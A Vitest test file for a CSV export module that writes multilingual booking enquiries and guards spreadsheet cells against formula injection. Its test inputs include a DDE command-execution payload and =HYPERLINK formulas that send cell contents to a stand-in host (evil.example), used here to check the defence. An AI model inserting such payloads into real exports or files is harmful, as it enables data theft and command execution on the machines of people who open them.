import { describe, expect, it } from 'vitest';
import { CSV_BOM, CSV_COLUMNS, csvCell, csvHeader, csvLine, enquiryCsvLine, exportFileName } from './csv';
import type { EnquiryRecord } from '../enquiries/enquiry';
import { NO_DATE_PREFERENCE } from '../intake/date-preference';
import { parseCsv } from '../../tests/support/csv';
import { sampleRecord } from '../../tests/support/records';

const record: EnquiryRecord = sampleRecord(12, {
  NAME: '김민수',
  EMAIL: 'minsu@example.com',
  DATE: '2026-11-23 00:30',
  REGISTRATION_END: '2026-12-05',
  HOTEL: 'Гостиница «Сеул», 3 этаж',
  NUMBER_PEOPLE: 3,
  ROOM: 2,
  CONTEXT: 'not exported',
  RECEIVED_AT: '2026-11-22T15:30:00.000Z',
  CONSENT_AT: '2026-11-22T15:30:00.000Z',
});

describe('csvCell', () => {
  it('quotes every cell', () => {
    expect(csvCell('plain')).toBe('"plain"');
    expect(csvCell('')).toBe('""');
  });

  it('doubles quotes inside a cell', () => {
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('"')).toBe('""""');
  });

  it('keeps commas and newlines inside the quotes', () => {
    expect(csvCell('a, b')).toBe('"a, b"');
    expect(csvCell('line 1\nline 2')).toBe('"line 1\nline 2"');
    expect(csvCell('line 1\r\nline 2')).toBe('"line 1\r\nline 2"');
    expect(parseCsv(csvLine(['a, b', 'x\r\ny', 'q"q']))).toEqual([['a, b', 'x\r\ny', 'q"q']]);
  });

  it.each(['=1+1', '+1', '-1', '@SUM(A1:A2)', '\tcmd', '\rcmd', '=cmd|" /C calc"!A0'])(
    'prefixes %j with an apostrophe',
    (text) => {
      const cell = csvCell(text);
      expect(cell.startsWith(`"'`)).toBe(true);
      expect(parseCsv(cell)[0]?.[0]).toBe(`'${text}`);
    },
  );

  it('makes a =HYPERLINK name harmless', () => {
    const name = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
    const cell = csvCell(name);
    expect(cell).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`);
    const [read] = parseCsv(cell)[0] ?? [];
    expect(read?.startsWith('=')).toBe(false);
    expect(read).toBe(`'${name}`);
  });

  it('leaves numbers untouched, negative ones included', () => {
    expect(csvCell(3)).toBe('"3"');
    expect(csvCell(-5)).toBe('"-5"');
    expect(csvCell(0)).toBe('"0"');
  });

  it('leaves text that only contains formula characters later on alone', () => {
    expect(csvCell('a=b')).toBe('"a=b"');
    expect(csvCell('john@example.com')).toBe('"john@example.com"');
    expect(csvCell('2026-12-01')).toBe('"2026-12-01"');
  });
});

describe('csvHeader and csvLine', () => {
  it('lists the eleven inherited columns in order, then the additive ones', () => {
    expect([...CSV_COLUMNS]).toEqual([
      'name',
      'phone',
      'email',
      'language',
      'section',
      'detail_section',
      'register_day',
      'register_END_day',
      'hotel',
      'count',
      'room_N',
      'reference',
      'status',
      'owner',
      'contact_channel',
      'contact_account',
      'page_language',
      'message',
      'received_at',
      'tags',
    ]);
  });

  it('starts with the UTF-8 byte order mark and ends with CRLF', () => {
    const header = csvHeader();
    expect(CSV_BOM).toBe('\uFEFF');
    expect(header.startsWith('\uFEFF')).toBe(true);
    expect(Buffer.from(header, 'utf8').subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(header.endsWith('\r\n')).toBe(true);
    expect(header.slice(1)).toBe(
      '"name","phone","email","language","section","detail_section","register_day","register_END_day","hotel","count","room_N",' +
        '"reference","status","owner","contact_channel","contact_account","page_language","message","received_at","tags"\r\n',
    );
  });

  it('ends every line with CRLF and has no bare LF', () => {
    const line = csvLine(['a', 1]);
    expect(line).toBe('"a","1"\r\n');
    expect(line.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
  });
});

describe('enquiryCsvLine', () => {
  it('writes the record in column order, with Korean and Cyrillic text as is', () => {
    const line = enquiryCsvLine(record);
    expect(line.endsWith('\r\n')).toBe(true);
    expect(parseCsv(line)).toEqual([
      [
        '김민수',
        '="+82 10-1234-5678"',
        'minsu@example.com',
        'Russian',
        '호텔예약',
        '',
        '2026-12-01',
        '2026-12-05',
        'Гостиница «Сеул», 3 этаж',
        '3',
        '2',
        'MT-000012',
        'new',
        '',
        '',
        '',
        'ru',
        'not exported',
        '2026-11-23 00:30',
        '',
      ],
    ]);
  });

  it('says "희망 없음" where the visitor chose no date, and leaves the check-out empty where the section asks none', () => {
    const dates = (overrides: Partial<EnquiryRecord>) =>
      parseCsv(enquiryCsvLine({ ...record, ...overrides }))[0]?.slice(6, 8);
    expect(dates({ REGISTRATION_DATE: '', REGISTRATION_END: '' })).toEqual([NO_DATE_PREFERENCE, NO_DATE_PREFERENCE]);
    expect(dates({ REGISTRATION_DATE: '2026-12-01', REGISTRATION_END: '' })).toEqual([
      '2026-12-01',
      NO_DATE_PREFERENCE,
    ]);
    expect(dates({ MEDICAL_SECTION: '병원예약', REGISTRATION_DATE: '', REGISTRATION_END: '' })).toEqual([
      NO_DATE_PREFERENCE,
      '',
    ]);
    expect(dates({ MEDICAL_SECTION: '병원예약', REGISTRATION_DATE: '2026-12-01 10:30', REGISTRATION_END: '' })).toEqual(
      ['2026-12-01 10:30', ''],
    );
    expect(NO_DATE_PREFERENCE).toBe('희망 없음');
  });

  it('writes the tags in one cell, in the order added, each guarded like any text', () => {
    const tagsCell = (tags?: readonly string[]) =>
      parseCsv(enquiryCsvLine({ ...record, ...(tags ? { TAGS: tags } : {}) }))[0]?.at(-1);
    expect(tagsCell(['VIP', '보험', 'follow up'])).toBe('VIP, 보험, follow up');
    expect(tagsCell(['=HYPERLINK("http://evil.example")'])).toBe(`'=HYPERLINK("http://evil.example")`);
    expect(tagsCell([])).toBe('');
    expect(tagsCell()).toBe('');
  });

  it('writes a phone number so that a spreadsheet shows it as typed, and guards anything else that looks like a formula', () => {
    const cell = (phone: string) => parseCsv(enquiryCsvLine({ ...record, CONTACT_NUMBER: phone }))[0]?.[1];
    expect(cell('+82 10-1234-5678')).toBe('="+82 10-1234-5678"');
    expect(cell('01012345678')).toBe('="01012345678"');
    expect(cell('(02) 123.4567')).toBe('="(02) 123.4567"');
    expect(cell('+1" & HYPERLINK("http://evil.example')).toBe(`'+1" & HYPERLINK("http://evil.example`);
    expect(cell('=SUM(1)')).toBe("'=SUM(1)");
    expect(cell('')).toBe('');
  });

  it('writes the contact channel and account, the account guarded like a phone number', () => {
    const row = parseCsv(
      enquiryCsvLine({ ...record, CONTACT_CHANNEL: 'whatsapp', CONTACT_ACCOUNT: '+7 900 123-45-67' }),
    )[0];
    expect(row?.slice(14, 16)).toEqual(['whatsapp', '="+7 900 123-45-67"']);
    const telegram = parseCsv(enquiryCsvLine({ ...record, CONTACT_CHANNEL: 'telegram', CONTACT_ACCOUNT: '@anna' }))[0];
    expect(telegram?.[15]).toBe("'@anna");
  });

  it('keeps a header and rows together as a file of equal rows that survives UTF-8 encoding', () => {
    const file =
      csvHeader() + enquiryCsvLine(record) + enquiryCsvLine({ ...record, NAME: '=1+2', HOTEL: 'Line 1\nLine 2' });
    const decoded = Buffer.from(file, 'utf8').toString('utf8');
    const rows = parseCsv(decoded.slice(1));
    expect(rows).toHaveLength(3);
    for (const row of rows) expect(row).toHaveLength(CSV_COLUMNS.length);
    expect(rows[2]?.[0]).toBe("'=1+2");
    expect(rows[2]?.[8]).toBe('Line 1\nLine 2');
  });

  it('does not export bookkeeping fields, and shows the received time in Korea time', () => {
    // A whole stored record (an export reads only the CSV's fields; a direct one may pass more).
    const stored: EnquiryRecord = { ...record, MAIL_STATUS: 'uncertain', CONSENT_VERSION: 'v-secret' };
    const line = enquiryCsvLine(stored);
    expect(line).not.toContain('uncertain');
    expect(line).not.toContain('v-secret');
    expect(line).not.toContain('2026-11-22T15:30');
  });
});

describe('exportFileName', () => {
  it('is data_<YYYYMMDDHHmm>.csv in Korea time', () => {
    expect(exportFileName(Date.parse('2026-11-22T15:30:00Z'))).toBe('data_202611230030.csv');
    expect(exportFileName(new Date('2026-11-22T14:59:59Z'))).toBe('data_202611222359.csv');
    expect(exportFileName(Date.parse('2026-12-31T15:00:00Z'))).toBe('data_202701010000.csv');
  });

  it('contains only safe characters for a Content-Disposition header', () => {
    expect(exportFileName(Date.now())).toMatch(/^data_\d{12}\.csv$/);
  });
});
